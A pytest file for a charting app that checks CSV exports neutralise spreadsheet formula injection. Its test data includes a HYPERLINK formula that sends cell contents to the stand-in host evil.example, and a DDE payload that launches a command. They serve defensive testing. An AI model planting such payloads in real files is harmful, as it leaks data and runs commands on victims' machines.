"""Formula injection: no cell of a CSV the product writes can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from apps.charts.analyses import REGISTRY
from apps.charts.analyses.base import ChartData, neutralise_formula
from apps.charts.tests.data import canonical

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
]


@pytest.mark.parametrize("value", [*HOSTILE, "\tTAB", "\rCR"])
def test_formula_like_text_is_quoted(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Siemens AG", "", 12, -3.5, None, "2019"])
def test_ordinary_values_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_every_cell_of_a_chart_csv_is_safe_including_the_header():
    data = ChartData(
        columns=["=name", "count"], rows=[[name, i] for i, name in enumerate(HOSTILE)] + [["ok", -1]]
    )
    cells = [cell for row in csv.reader(io.StringIO(data.to_csv().decode())) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and cell != "-1")]
    assert "-1" in cells  # numbers stay numbers


def test_hostile_applicant_names_from_an_export_are_neutralised_in_the_ranking_csv():
    data = canonical(applicant={name: 10 - i for i, name in enumerate(HOSTILE)})
    analysis = REGISTRY["top_applicants"]
    chart = analysis.compute(data, analysis.params_model())
    rows = list(csv.reader(io.StringIO(chart.to_csv().decode())))
    written = {cell for row in rows[1:] for cell in row}
    assert {"'" + name for name in HOSTILE} <= written
    assert not written & set(HOSTILE)
